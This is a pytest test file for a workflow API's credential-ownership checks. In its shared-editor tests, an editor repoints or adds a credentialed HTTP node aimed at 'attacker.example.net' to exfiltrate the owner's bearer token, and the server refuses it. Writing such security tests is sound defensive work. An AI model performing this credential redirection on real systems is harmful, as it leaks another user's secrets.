"""A workflow may name only its owner's credentials, of the type each node takes (checked when saving)."""

from __future__ import annotations

import uuid

import pytest

from tests.clients import client_for
from tests.workflows.helpers import linear, node

pytestmark = pytest.mark.django_db


def http_definition(credential_id: str) -> dict:
    return linear(
        node("start", "trigger.manual"),
        node("call", "http_request", url="https://api.example.com/", credential=credential_id),
    )


def details(response) -> dict[str, str]:
    return {d["field"]: d["message"] for d in response.json()["error"]["details"]}


def test_own_credential_of_the_right_type_is_accepted(auth_client, make_credential):
    credential = make_credential("http_bearer", {"token": "bearer-0123456789"})
    response = auth_client.post(
        "/api/v1/workflows", {"name": "wf", "definition": http_definition(str(credential.pk))}, format="json"
    )
    assert response.status_code == 201, response.json()


def test_another_users_credential_is_refused_when_saving(auth_client, make_credential, make_user):
    theirs = make_credential("http_bearer", {"token": "bearer-0123456789"}, owner=make_user())
    for definition in (http_definition(str(theirs.pk)), http_definition(str(uuid.uuid4()))):
        response = auth_client.post("/api/v1/workflows", {"name": "wf", "definition": definition}, format="json")
        assert response.status_code == 400
        assert details(response) == {"definition.nodes[1].config.credential": "Credential not found"}


def test_wrong_type_is_refused(auth_client, make_credential):
    smtp = make_credential("smtp", {"host": "smtp.example.com", "port": 587, "from_email": "a@example.com"})
    response = auth_client.post(
        "/api/v1/workflows", {"name": "wf", "definition": http_definition(str(smtp.pk))}, format="json"
    )
    assert response.status_code == 400
    assert details(response) == {
        "definition.nodes[1].config.credential": (
            "Expected a credential of type http_basic, http_bearer, api_key or oauth2_token, got smtp"
        )
    }


def test_webhook_hmac_credential_must_be_an_hmac_secret(auth_client, make_credential):
    bearer = make_credential("http_bearer", {"token": "bearer-0123456789"})
    definition = linear(
        node("start", "trigger.webhook", hmac_credential=str(bearer.pk)), node("t", "transform", value=1)
    )
    response = auth_client.post("/api/v1/workflows", {"name": "wf", "definition": definition}, format="json")
    assert details(response) == {
        "definition.nodes[0].config.hmac_credential": "Expected a credential of type hmac_secret, got http_bearer"
    }


def test_validate_endpoint_and_updates_check_too(auth_client, make_credential, make_user):
    mine = make_credential("http_bearer", {"token": "bearer-0123456789"})
    theirs = make_credential("http_bearer", {"token": "bearer-0123456789"}, owner=make_user())
    report = auth_client.post(
        "/api/v1/workflows/validate", {"definition": http_definition(str(theirs.pk))}, format="json"
    ).json()
    assert report["valid"] is False
    assert report["errors"] == [{"field": "definition.nodes[1].config.credential", "message": "Credential not found"}]

    created = auth_client.post(
        "/api/v1/workflows", {"name": "wf", "definition": http_definition(str(mine.pk))}, format="json"
    ).json()
    response = auth_client.patch(
        f"/api/v1/workflows/{created['id']}", {"definition": http_definition(str(theirs.pk))}, format="json"
    )
    assert response.status_code == 400
    assert "definition.nodes[1].config.credential" in details(response)


def test_an_editor_it_is_shared_with_cannot_bring_their_own_credential(auth_client, make_credential, make_user, user):
    """The check is against the workflow's owner, whoever edits it."""
    editor = make_user()
    editors_credential = make_credential("http_bearer", {"token": "bearer-0123456789"}, owner=editor)
    created = auth_client.post(
        "/api/v1/workflows", {"name": "wf", "definition": http_definition("{{ vars.cred }}")}, format="json"
    ).json()
    auth_client.post(
        f"/api/v1/workflows/{created['id']}/shares", {"email": editor.email, "role": "editor"}, format="json"
    )
    response = client_for(editor).patch(
        f"/api/v1/workflows/{created['id']}", {"definition": http_definition(str(editors_credential.pk))}, format="json"
    )
    assert response.status_code == 400
    assert details(response) == {"definition.nodes[1].config.credential": "Credential not found"}


class TestSharedEditors:
    """An editor the owner shared the workflow with cannot redirect the owner's credential to themselves."""

    @pytest.fixture
    def shared(self, auth_client, user, make_credential, make_user):
        from workflows.models import Workflow, WorkflowShare

        credential = make_credential("http_bearer", {"token": "bearer-0123456789"})
        response = auth_client.post(
            "/api/v1/workflows", {"name": "wf", "definition": http_definition(str(credential.pk))}, format="json"
        )
        workflow = Workflow.objects.get(pk=response.json()["id"])
        editor = make_user()
        WorkflowShare.objects.create(workflow=workflow, user=editor, role=WorkflowShare.Role.EDITOR)
        return workflow, client_for(editor), credential

    def test_pointing_the_credentialed_node_elsewhere_is_refused(self, shared):
        workflow, editor, credential = shared
        stolen = linear(
            node("start", "trigger.manual"),
            node("call", "http_request", url="https://attacker.example.net/collect", credential=str(credential.pk)),
        )
        response = editor.patch(f"/api/v1/workflows/{workflow.pk}", {"definition": stolen}, format="json")
        assert response.status_code == 403, response.content
        assert response.json()["error"]["reason"] == "CREDENTIALED_NODE_OWNER_ONLY"
        assert details(response) == {"definition.nodes[1]": response.json()["error"]["message"]}
        workflow.refresh_from_db()
        assert workflow.definition["nodes"][1]["config"]["url"] == "https://api.example.com/"
        assert workflow.version == 1

    def test_adding_a_credentialed_node_is_refused(self, shared):
        workflow, editor, credential = shared
        added = {
            "nodes": [
                *workflow.definition["nodes"],
                node("leak", "http_request", url="https://attacker.example.net/", credential=str(credential.pk)),
            ],
            "edges": [*workflow.definition["edges"], {"source": "call", "target": "leak"}],
        }
        response = editor.patch(f"/api/v1/workflows/{workflow.pk}", {"definition": added}, format="json")
        assert response.status_code == 403

    def test_other_changes_and_the_owner_are_fine(self, shared, auth_client):
        workflow, editor, credential = shared
        extra = {
            "nodes": [*workflow.definition["nodes"], node("note", "transform", value="added by the editor")],
            "edges": [*workflow.definition["edges"], {"source": "call", "target": "note"}],
        }
        assert editor.patch(f"/api/v1/workflows/{workflow.pk}", {"definition": extra}, format="json").status_code == 200
        moved = linear(
            node("start", "trigger.manual"),
            node("call", "http_request", url="https://api2.example.com/", credential=str(credential.pk)),
        )
        response = auth_client.patch(f"/api/v1/workflows/{workflow.pk}", {"definition": moved}, format="json")
        assert response.status_code == 200, response.content
